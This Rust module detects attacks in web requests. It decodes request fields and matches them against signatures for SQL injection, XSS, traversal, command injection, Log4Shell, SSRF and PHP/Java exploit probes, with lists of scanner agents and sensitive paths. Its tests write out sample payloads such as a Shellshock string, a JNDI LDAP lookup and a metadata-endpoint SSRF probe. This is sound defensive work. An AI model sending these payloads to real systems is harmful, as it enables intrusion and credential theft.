//! Web request inspection: decoding, attack signatures, scanner user agents and sensitive paths.
//!
//! A field (URL path, query, user agent, referer) is first screened with one aho-corasick pass
//! for bytes and words any attack needs; only a field that passes is decoded (percent-encoding
//! until stable, `%uXXXX`, `+`, HTML entities, case, SQL comments, whitespace runs) and matched
//! with one `RegexSet`.

use std::borrow::Cow;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};
use regex::{RegexSet, RegexSetBuilder};

/// Most decoding rounds: attackers double- and triple-encode (`%252e`); four rounds cover what
/// servers themselves decode, and the bound keeps a hostile input from looping.
const MAX_DECODE_ROUNDS: usize = 4;
/// Longest field inspected, in bytes. Longer values are cut: payloads sit near the start of a
/// field and the regex cost stays bounded.
const MAX_FIELD_BYTES: usize = 4096;

/// Kinds of web attacks, as the `attack` label spells them.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum AttackKind {
    Sqli,
    Xss,
    PathTraversal,
    Cmdi,
    Jndi,
    Ssrf,
    PhpExploit,
    JavaExploit,
}

impl AttackKind {
    /// Every kind, in label order.
    pub const ALL: [AttackKind; 8] = [
        AttackKind::Sqli,
        AttackKind::Xss,
        AttackKind::PathTraversal,
        AttackKind::Cmdi,
        AttackKind::Jndi,
        AttackKind::Ssrf,
        AttackKind::PhpExploit,
        AttackKind::JavaExploit,
    ];

    /// The `attack` label value.
    pub fn as_str(self) -> &'static str {
        match self {
            AttackKind::Sqli => "sqli",
            AttackKind::Xss => "xss",
            AttackKind::PathTraversal => "path_traversal",
            AttackKind::Cmdi => "cmdi",
            AttackKind::Jndi => "jndi",
            AttackKind::Ssrf => "ssrf",
            AttackKind::PhpExploit => "php_exploit",
            AttackKind::JavaExploit => "java_exploit",
        }
    }

    fn bit(self) -> u16 {
        1 << (self as u16)
    }
}

/// A set of [`AttackKind`]s.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct AttackSet(u16);

impl AttackSet {
    pub fn insert(&mut self, kind: AttackKind) {
        self.0 |= kind.bit();
    }
    pub fn contains(self, kind: AttackKind) -> bool {
        self.0 & kind.bit() != 0
    }
    pub fn is_empty(self) -> bool {
        self.0 == 0
    }
    pub fn union(self, other: AttackSet) -> AttackSet {
        AttackSet(self.0 | other.0)
    }
    /// The kinds in the set.
    pub fn iter(self) -> impl Iterator<Item = AttackKind> {
        AttackKind::ALL
            .into_iter()
            .filter(move |k| self.contains(*k))
    }
}

/// Which field a value came from: SSRF is only looked for in the query, and the referer may
/// legitimately name `localhost`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Field {
    Path,
    Query,
    UserAgent,
    Referrer,
}

/// Signatures over decoded, lower-cased text. Each must need attack syntax, not just an SQL
/// or HTML word, so that search queries such as `q=select+from+union` stay quiet.
const SIGNATURES: &[(AttackKind, &str)] = &[
    // SQL injection
    (AttackKind::Sqli, r"\bunion(\s+(all|distinct))?\s+select\b"),
    (
        AttackKind::Sqli,
        r#"['"`)]\s*(or|and|xor|\|\||&&)\s+['"(]?[\w@]+['")]?\s*(=|<|>|like\b|is\b|in\s*\()"#,
    ),
    (
        AttackKind::Sqli,
        r#"['"`)]\s*(or|and)\s+(true|false|not)\b"#,
    ),
    (
        AttackKind::Sqli,
        r"\b(sleep|benchmark|pg_sleep|dbms_pipe\.receive_message)\s*\(",
    ),
    (AttackKind::Sqli, r"\bwaitfor\s+(delay|time)\s+'"),
    (
        AttackKind::Sqli,
        r"\binformation_schema\b|@@(version|datadir|hostname)\b",
    ),
    (
        AttackKind::Sqli,
        r"\b(load_file|extractvalue|updatexml|group_concat)\s*\(",
    ),
    (AttackKind::Sqli, r"\binto\s+(out|dump)file\b"),
    (
        AttackKind::Sqli,
        r#"['"`]\s*;\s*(drop|delete|insert|update|select|shutdown|exec|declare)\b"#,
    ),
    (AttackKind::Sqli, r#"['"`)]\s*(--|#|/\*)"#),
    (AttackKind::Sqli, r"[,(]\s*null\s*,\s*null\b"),
    (AttackKind::Sqli, r"\border\s+by\s+\d+\s*(--|#)"),
    (
        AttackKind::Sqli,
        r"\b(char|chr|concat|concat_ws)\s*\(\s*(0x|\d+\s*,|select\b)",
    ),
    (
        AttackKind::Sqli,
        r"\bselect\s+[\w*,\s@()]+\s+from\s+\w+\s+where\b.*(=|\blike\b)",
    ),
    // Cross-site scripting
    (AttackKind::Xss, r"<\s*/?\s*script\b"),
    (AttackKind::Xss, r"\b(javascript|vbscript|livescript)\s*:"),
    (
        AttackKind::Xss,
        r"<[^>]*\bon(error|load|mouse\w+|focus\w*|blur|click|dblclick|submit|toggle|animation\w+|pointer\w+|key\w+|begin|end)\s*=",
    ),
    (
        AttackKind::Xss,
        r"<\s*(iframe|object|embed|svg|math|base|meta|applet|form)\b",
    ),
    (
        AttackKind::Xss,
        r"\bdocument\s*\.\s*(cookie|domain|location|write)\b",
    ),
    (
        AttackKind::Xss,
        r"\b(alert|prompt|confirm)\s*\(|\bexpression\s*\(",
    ),
    (AttackKind::Xss, r"\bdata:text/html\b"),
    // Path traversal
    (AttackKind::PathTraversal, r"(^|[/\\=])\.\.+[/\\;]"),
    (AttackKind::PathTraversal, r"[/\\]\.\.$"),
    (
        AttackKind::PathTraversal,
        r"/etc/(passwd|shadow|group|hosts|issue)\b|/proc/self/|\bc:\\windows\\|\b(win|boot|system)\.ini\b",
    ),
    // Command injection (and Shellshock)
    (
        AttackKind::Cmdi,
        r"(^|[;|&`]|\$\()\s*(cat|ls|id|whoami|uname|wget|curl|nc|ncat|bash|sh|ping|nslookup|powershell|cmd|busybox|chmod|rm|echo|sleep)(\s|$|[;|&`)])",
    ),
    (AttackKind::Cmdi, r"\$\(\s*[a-z]|`\s*[a-z]+[^`]*`|\$\{ifs\}"),
    (
        AttackKind::Cmdi,
        r"/bin/(ba|z|da)?sh\b|\bcmd(\.exe)?\s+/c\b",
    ),
    (AttackKind::Cmdi, r"\(\s*\)\s*\{\s*:?\s*;?\s*\}\s*;"),
    // JNDI / Log4Shell, including nested lookups once decoded
    (
        AttackKind::Jndi,
        r"\$\{\s*jndi\s*:|jndi\s*:\s*(ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\b|\$\{[^}]{0,40}\$\{",
    ),
    // Server-side request forgery probes (query only, see `Field`)
    (
        AttackKind::Ssrf,
        r"(^|[=&])\s*(https?|gopher|dict|file|ftp|ldap|tftp)://(localhost|127\.|0\.0\.0\.0|0x7f|\[::1?\]|169\.254\.|metadata\.google\.internal|10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.)",
    ),
    (
        AttackKind::Ssrf,
        r"\b(gopher|dict)://|169\.254\.169\.254|metadata\.google\.internal",
    ),
    // PHP exploitation probes
    (
        AttackKind::PhpExploit,
        r"\bphp://(input|filter)|\b(data|expect|phar|zip)://|allow_url_include|auto_prepend_file",
    ),
    (
        AttackKind::PhpExploit,
        r"<\?php|\b(base64_decode|eval|assert|system|passthru|shell_exec|proc_open|popen|call_user_func)\s*\(",
    ),
    (
        AttackKind::PhpExploit,
        r"/vendor/phpunit/.*eval-stdin\.php|\?-d\s*allow_url",
    ),
    // Java exploitation probes (Spring4Shell, OGNL/Struts, deserialisation consoles)
    (
        AttackKind::JavaExploit,
        r"class\.module\.classloader|#_memberaccess|java\.lang\.(runtime|processbuilder)|\.getruntime\(\)|%\{\s*\(?#|\$\{\s*@?java\.",
    ),
    (
        AttackKind::JavaExploit,
        r"/invoker/(jmx)?invokerservlet|/jmx-console\b|/web-console/|/jbossmq-httpil/",
    ),
];

/// Words any signature needs, whatever the field. A field holding none of them nor one of
/// the field's trigger characters cannot match, so most requests skip decoding and the regex
/// set. Encoded forms are listed explicitly (`%27` for `'`): a bare `%` is too common in
/// benign queries (`%20`) to be a trigger.
const TRIGGER_WORDS: &[&str] = &[
    "%25",
    "%27",
    "%22",
    "%60",
    "%3c",
    "%3e",
    "%28",
    "%29",
    "%3b",
    "%7c",
    "%24",
    "%7b",
    "%2e",
    "%5c",
    "%u",
    "%00",
    "%0a",
    "%0d",
    "%26",
    "&#",
    "..",
    "union",
    "select",
    "sleep",
    "benchmark",
    "waitfor",
    "information_schema",
    "@@",
    "outfile",
    "dumpfile",
    "null",
    "order",
    "load_file",
    "extractvalue",
    "updatexml",
    "group_concat",
    "javascript",
    "vbscript",
    "script",
    "data:",
    "/etc/",
    "/proc/",
    "win.ini",
    "boot.ini",
    "system.ini",
    "c:\\",
    "/bin/",
    "cmd",
    "jndi",
    "gopher:",
    "dict:",
    "169.254",
    "metadata.google",
    "php",
    "eval",
    "class.module",
    "java.",
    "invoker",
    "jmx-console",
    "web-console",
    "jbossmq",
    "{ifs}",
    "_memberaccess",
    "concat",
    "char",
    "chr",
];

/// Characters that carry attack syntax in a path or query. User agents and referers hold
/// `(`, `)` and `;` in every browser string, so there only the rarer ones count.
const TRIGGER_CHARS_REQUEST: &[u8] = b"'\"`<>();|${}\\";
const TRIGGER_CHARS_HEADER: &[u8] = b"'\"`<>|${}\\";

const fn byte_table(chars: &[u8]) -> [bool; 256] {
    let mut table = [false; 256];
    let mut i = 0;
    while i < chars.len() {
        table[chars[i] as usize] = true;
        i += 1;
    }
    table
}
static REQUEST_CHAR_TABLE: [bool; 256] = byte_table(TRIGGER_CHARS_REQUEST);
static HEADER_CHAR_TABLE: [bool; 256] = byte_table(TRIGGER_CHARS_HEADER);

/// SSRF needs a scheme in the query; checked only there.
const TRIGGER_SSRF: &[&str] = &["://"];

/// Known scanner and attack-tool user agents (lower case substrings).
const SCANNER_AGENTS: &[&str] = &[
    "nikto",
    "sqlmap",
    "nmap",
    "masscan",
    "zgrab",
    "nuclei",
    "wpscan",
    "dirbuster",
    "gobuster",
    "dirb/",
    "feroxbuster",
    "ffuf",
    "wfuzz",
    "acunetix",
    "nessus",
    "openvas",
    "w3af",
    "arachni",
    "havij",
    "hydra",
    "medusa",
    "jaeles",
    "zmeu",
    "morfeus",
    "l9explore",
    "l9tcpid",
    "netsparker",
    "appscan",
    "whatweb",
    "skipfish",
    "commix",
    "sqlninja",
    "fimap",
    "webinspect",
    "paros",
    "jorgee",
    "zmap",
    "censysinspect",
    "internetmeasurement",
    "xenu link",
    "brutus",
    "bsqlbf",
    "grabber",
    "webshag",
    "nasl",
    "muieblackcat",
    "tsunami",
    "wpsec",
    "wprecon",
    "vega/",
    "bbot/",
    "interactsh",
    "burpcollaborator",
    "pangolin",
];

/// Sensitive files and admin interfaces scanners probe for (lower case substrings of the path).
const SENSITIVE_PATHS: &[&str] = &[
    "/.env",
    "/.git/",
    "/.svn/",
    "/.hg/",
    "/.bzr/",
    "/.ds_store",
    "/.htpasswd",
    "/.htaccess",
    "wp-config.php",
    "/.aws/",
    "/.ssh/",
    "id_rsa",
    "id_dsa",
    "/actuator",
    "/server-status",
    "/server-info",
    "phpinfo.php",
    "/.bash_history",
    "/.npmrc",
    "/.dockercfg",
    "/.docker/config.json",
    "docker-compose.y",
    "/web.config",
    "/.vscode/",
    "/.idea/",
    "/backup.sql",
    "/dump.sql",
    "/database.sql",
    "/db.sql",
    "/.listing",
    "/.travis.yml",
    "/.gitlab-ci.yml",
    "/config.php.bak",
    "/.config/",
    "/etc/passwd",
    "/.kube/config",
    "/credentials",
    "/secrets.yml",
    "/config/database.yml",
    "/phpmyadmin",
    "/pma/",
    "/myadmin",
    "/mysqladmin",
    "/adminer",
    "/wp-admin",
    "/wp-login.php",
    "/xmlrpc.php",
    "/administrator",
    "/manager/html",
    "/host-manager",
    "/jmx-console",
    "/web-console",
    "/solr/admin",
    "/+cscoe+",
    "/cgi-bin/",
    "/boaform",
    "/hnap1",
    "/console/",
    "/webadmin",
    "/wp-content/plugins/",
    "/wp-includes/",
    "/cpanel",
    "/whm",
    "/admin.php",
    "/admin/",
    "/vendor/phpunit",
    "/telescope/",
    "/_profiler",
    "/debug/default/view",
    "/.well-known/openid-configuration/../",
];

/// Static resources: a 404 on them is a broken page, not probing.
const STATIC_SUFFIXES: &[&str] = &[
    ".js", ".css", ".png", ".jpg", ".jpeg", ".gif", ".ico", ".svg", ".woff", ".woff2", ".ttf",
    ".eot", ".map", ".webp", ".avif", ".mp4", ".webm",
];

/// Login and token endpoints, where a 403 is a failed authentication (a 401 always is).
const LOGIN_PATH_MARKERS: &[&str] = &[
    "login",
    "signin",
    "sign_in",
    "sign-in",
    "logon",
    "auth",
    "token",
    "session",
    "oauth",
    "sso",
    "saml",
    "xmlrpc.php",
    "wp-login",
    "password",
    "passwd",
    "account",
];

/// Compiled matchers, built once per detector.
#[derive(Debug)]
pub struct WebMatcher {
    triggers: AhoCorasick,
    ssrf_triggers: AhoCorasick,
    signatures: RegexSet,
    kinds: Vec<AttackKind>,
    scanners: AhoCorasick,
    sensitive: AhoCorasick,
    login: AhoCorasick,
}

impl WebMatcher {
    /// Compile the matchers, with the configured additions.
    ///
    /// # Errors
    /// A message when a pattern does not compile (only possible for added patterns).
    pub fn try_new(
        extra_scanner_agents: &[String],
        extra_sensitive_paths: &[String],
        extra_login_markers: &[String],
    ) -> Result<WebMatcher, String> {
        let ci = |pats: Vec<String>| -> Result<AhoCorasick, String> {
            // Only `is_match` is asked, so standard semantics (stop at the first match) and a
            // full DFA: a few hundred patterns make a DFA of well under a megabyte.
            AhoCorasickBuilder::new()
                .ascii_case_insensitive(true)
                .match_kind(MatchKind::Standard)
                .kind(Some(AhoCorasickKind::DFA))
                .build(pats)
                .map_err(|e| e.to_string())
        };
        let with = |base: &[&str], extra: &[String]| -> Vec<String> {
            base.iter()
                .map(|s| s.to_string())
                .chain(extra.iter().map(|s| s.to_ascii_lowercase()))
                .collect()
        };
        let signatures = RegexSetBuilder::new(SIGNATURES.iter().map(|(_, p)| *p))
            .size_limit(64 << 20)
            .build()
            .map_err(|e| e.to_string())?;
        Ok(WebMatcher {
            triggers: ci(with(TRIGGER_WORDS, &[]))?,
            ssrf_triggers: ci(with(TRIGGER_SSRF, &[]))?,
            signatures,
            kinds: SIGNATURES.iter().map(|(k, _)| *k).collect(),
            scanners: ci(with(SCANNER_AGENTS, extra_scanner_agents))?,
            sensitive: ci(with(SENSITIVE_PATHS, extra_sensitive_paths))?,
            login: ci(with(LOGIN_PATH_MARKERS, extra_login_markers))?,
        })
    }

    /// The attacks found in one field value.
    pub fn attacks(&self, field: Field, value: &str) -> AttackSet {
        let value = clip(value);
        let mut set = AttackSet::default();
        let table = match field {
            Field::Path | Field::Query => &REQUEST_CHAR_TABLE,
            Field::UserAgent | Field::Referrer => &HEADER_CHAR_TABLE,
        };
        let triggered = value.bytes().any(|b| table[b as usize])
            || self.triggers.is_match(value)
            || (field == Field::Query && self.ssrf_triggers.is_match(value));
        if !triggered {
            return set;
        }
        let decoded = normalize(value, field == Field::Query);
        for i in self.signatures.matches(&decoded).iter() {
            let kind = self.kinds[i];
            if kind == AttackKind::Ssrf && field != Field::Query {
                continue;
            }
            set.insert(kind);
        }
        set
    }

    /// True for a known scanner user agent.
    pub fn is_scanner(&self, user_agent: &str) -> bool {
        self.scanners.is_match(clip(user_agent))
    }

    /// True for a path scanners probe for (sensitive file or admin interface).
    pub fn is_sensitive_path(&self, path: &str) -> bool {
        let path = clip(path);
        if self.sensitive.is_match(path) {
            return true;
        }
        // Encoded probes (`/%2eenv`): decode only when there is something to decode.
        path.contains('%') && self.sensitive.is_match(normalize(path, false).as_ref())
    }

    /// True for a login or token endpoint.
    pub fn is_login_path(&self, path: &str) -> bool {
        self.login.is_match(clip(path))
    }
}

/// True when a path names a static resource.
pub fn is_static_path(path: &str) -> bool {
    let p = path.as_bytes();
    STATIC_SUFFIXES
        .iter()
        .any(|s| p.len() >= s.len() && p[p.len() - s.len()..].eq_ignore_ascii_case(s.as_bytes()))
}

fn clip(s: &str) -> &str {
    if s.len() <= MAX_FIELD_BYTES {
        return s;
    }
    let mut cut = MAX_FIELD_BYTES;
    while !s.is_char_boundary(cut) {
        cut -= 1;
    }
    &s[..cut]
}

/// Decode and canonicalise a field for signature matching: percent-decoding (and `%uXXXX`)
/// repeated until stable, `+` as space in queries, HTML entities, lower case, SQL comments
/// as spaces, whitespace runs as one space.
pub fn normalize(value: &str, plus_is_space: bool) -> Cow<'_, str> {
    let mut cur: Cow<'_, str> = Cow::Borrowed(value);
    for _ in 0..MAX_DECODE_ROUNDS {
        let next = percent_decode(&cur, plus_is_space);
        let next = html_decode(&next);
        if next == cur.as_ref() {
            break;
        }
        cur = Cow::Owned(next.into_owned());
    }
    let lower = cur.to_lowercase();
    Cow::Owned(collapse_space(&strip_sql_comments(&lower)))
}

fn hex_val(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

fn percent_decode(s: &str, plus_is_space: bool) -> Cow<'_, str> {
    if !s.contains('%') && (!plus_is_space || !s.contains('+')) {
        return Cow::Borrowed(s);
    }
    let b = s.as_bytes();
    let mut out: Vec<u8> = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'%' if i + 6 <= b.len() && (b[i + 1] == b'u' || b[i + 1] == b'U') => {
                let code = (b[i + 2..i + 6].iter())
                    .try_fold(0u32, |acc, &c| hex_val(c).map(|v| acc * 16 + u32::from(v)));
                match code.and_then(char::from_u32) {
                    Some(c) => {
                        let mut buf = [0u8; 4];
                        out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
                        i += 6;
                    }
                    None => {
                        out.push(b'%');
                        i += 1;
                    }
                }
            }
            b'%' => {
                match (
                    b.get(i + 1).copied().and_then(hex_val),
                    b.get(i + 2).copied().and_then(hex_val),
                ) {
                    (Some(h), Some(l)) => {
                        out.push(h * 16 + l);
                        i += 3;
                    }
                    _ => {
                        out.push(b'%');
                        i += 1;
                    }
                }
            }
            b'+' if plus_is_space => {
                out.push(b' ');
                i += 1;
            }
            c => {
                out.push(c);
                i += 1;
            }
        }
    }
    Cow::Owned(String::from_utf8_lossy(&out).into_owned())
}

fn html_decode(s: &str) -> Cow<'_, str> {
    if !s.contains('&') {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(pos) = rest.find('&') {
        out.push_str(&rest[..pos]);
        rest = &rest[pos..];
        let end = rest
            .bytes()
            .take(12)
            .position(|c| c == b';')
            .filter(|&e| e > 1);
        let decoded = end.and_then(|e| {
            let name = &rest[1..e];
            let c = match name {
                "lt" => Some('<'),
                "gt" => Some('>'),
                "quot" => Some('"'),
                "apos" => Some('\''),
                "amp" => Some('&'),
                "sol" => Some('/'),
                "colon" => Some(':'),
                "lpar" => Some('('),
                "rpar" => Some(')'),
                _ if name.starts_with("#x") || name.starts_with("#X") => {
                    u32::from_str_radix(&name[2..], 16)
                        .ok()
                        .and_then(char::from_u32)
                }
                _ if name.starts_with('#') => name[1..].parse().ok().and_then(char::from_u32),
                _ => None,
            };
            c.map(|c| (c, e + 1))
        });
        match decoded {
            Some((c, len)) => {
                out.push(c);
                rest = &rest[len..];
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    Cow::Owned(out)
}

/// Replace `/* ... */` (including MySQL's `/*!50000 ... */` version comments, whose body MySQL
/// runs, so the body is kept) by a space.
fn strip_sql_comments(s: &str) -> String {
    if !s.contains("/*") {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(start) = rest.find("/*") {
        out.push_str(&rest[..start]);
        out.push(' ');
        let after = &rest[start + 2..];
        if let Some(body) = after.strip_prefix('!') {
            // Executable comment: keep the body, drop the version digits.
            let body = body.trim_start_matches(|c: char| c.is_ascii_digit());
            match body.find("*/") {
                Some(end) => {
                    out.push_str(&body[..end]);
                    out.push(' ');
                    rest = &body[end + 2..];
                }
                None => {
                    out.push_str(body);
                    rest = "";
                }
            }
            continue;
        }
        match after.find("*/") {
            Some(end) => rest = &after[end + 2..],
            None => rest = "",
        }
    }
    out.push_str(rest);
    out
}

fn collapse_space(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut in_space = false;
    for c in s.chars() {
        if c.is_whitespace() || c == '\0' {
            if !in_space {
                out.push(' ');
            }
            in_space = true;
        } else {
            out.push(c);
            in_space = false;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn matcher() -> WebMatcher {
        WebMatcher::try_new(&[], &[], &[]).expect("built-in patterns compile")
    }

    #[test]
    fn decodes_layered_encodings() {
        assert_eq!(normalize("%252E%252E%252Fetc", false), "../etc");
        assert_eq!(normalize("a+b%20%20c", true), "a b c");
        assert_eq!(normalize("%u003Cscript%u003E", false), "<script>");
        assert_eq!(normalize("&#x3C;SCRIPT&gt;", false), "<script>");
        assert_eq!(normalize("UNION/**/SELECT", false), "union select");
        assert_eq!(normalize("/*!50000union*/ select", false), " union select");
        assert_eq!(normalize("100%", false), "100%");
        assert_eq!(normalize("%zz%4", false), "%zz%4");
    }

    #[test]
    fn attacks_are_found_after_decoding() {
        let m = matcher();
        let cases: &[(Field, &str, AttackKind)] = &[
            (
                Field::Query,
                "id=1%27%20OR%20%271%27%3D%271",
                AttackKind::Sqli,
            ),
            (
                Field::Query,
                "id=-1+UNION/**/ALL+SELECT+1,2,3",
                AttackKind::Sqli,
            ),
            (Field::Query, "a=%2cnull%2cnull", AttackKind::Sqli),
            (Field::Query, "id=1;waitfor delay '0:0:5'", AttackKind::Sqli),
            (
                Field::Query,
                "q=%3Cscript%3Ealert(1)%3C/script%3E",
                AttackKind::Xss,
            ),
            (
                Field::Query,
                "x=<img src=x onerror=alert(1)>",
                AttackKind::Xss,
            ),
            (
                Field::Path,
                "/static/%2e%2e/%2e%2e/etc/passwd",
                AttackKind::PathTraversal,
            ),
            (
                Field::Path,
                "/%252E%252E%252Ffoo",
                AttackKind::PathTraversal,
            ),
            (
                Field::Query,
                "host=127.0.0.1;cat /etc/shadow",
                AttackKind::Cmdi,
            ),
            (
                Field::UserAgent,
                "() { :; }; /bin/bash -c 'id'",
                AttackKind::Cmdi,
            ),
            (
                Field::UserAgent,
                "${jndi:ldap://x.example/a}",
                AttackKind::Jndi,
            ),
            (
                Field::Query,
                "x=${${lower:j}ndi:ldap://a/b}",
                AttackKind::Jndi,
            ),
            (
                Field::Query,
                "url=http://169.254.169.254/latest/meta-data/",
                AttackKind::Ssrf,
            ),
            (
                Field::Query,
                "page=php://filter/resource=index",
                AttackKind::PhpExploit,
            ),
            (
                Field::Path,
                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                AttackKind::PhpExploit,
            ),
            (
                Field::Query,
                "class.module.classLoader.URLs[0]=0",
                AttackKind::JavaExploit,
            ),
        ];
        for (field, value, kind) in cases {
            let found = m.attacks(*field, value);
            assert!(
                found.contains(*kind),
                "{value:?} should be {kind:?}, got {found:?}"
            );
        }
    }

    #[test]
    fn benign_requests_stay_quiet() {
        let m = matcher();
        let cases: &[(Field, &str)] = &[
            (Field::Query, "name=O'Brien&city=Cote d'Ivoire"),
            (Field::Query, "q=select+from+union+where+order"),
            (Field::Query, "q=how+to+select+rows+from+a+table"),
            (Field::Query, "q=rock+%27n%27+roll+and+blues"),
            (
                Field::Query,
                "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
            ),
            (
                Field::Query,
                "data=aGVsbG8gd29ybGQ%3D%3D&page=2&sort=created_at%20desc&filter=status%3Aactive",
            ),
            (
                Field::Query,
                "redirect=https://app.example.com/home?tab=1&lang=en",
            ),
            (Field::Path, "/api/v1/users/42/orders"),
            (Field::Path, "/docs/it's-fine.html"),
            (Field::Referrer, "http://localhost:3000/dashboard"),
            (
                Field::UserAgent,
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
            ),
            (
                Field::Query,
                "msg=Tom%20%26%20Jerry%20(1940)%20-%20best%20of",
            ),
            (Field::Query, "expr=price>10;sort=desc"),
        ];
        for (field, value) in cases {
            let found = m.attacks(*field, value);
            assert!(
                found.is_empty(),
                "{value:?} should be benign, got {found:?}"
            );
        }
        let long = format!("q={}", "abc%20def+".repeat(400));
        assert!(m.attacks(Field::Query, &long).is_empty());
    }

    #[test]
    fn scanners_and_sensitive_paths() {
        let m = matcher();
        assert!(m.is_scanner("Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)"));
        assert!(m.is_scanner("sqlmap/1.7#stable (https://sqlmap.org)"));
        assert!(!m.is_scanner("curl/8.4.0"));
        assert!(m.is_sensitive_path("/.git/config"));
        assert!(m.is_sensitive_path("/%2eenv"));
        assert!(m.is_sensitive_path("/blog/wp-config.php.bak"));
        assert!(!m.is_sensitive_path("/api/environment"));
        assert!(!m.is_sensitive_path("/.well-known/acme-challenge/x"));
        assert!(is_static_path("/assets/app.JS"));
        assert!(m.is_login_path("/api/auth/token"));
    }
}
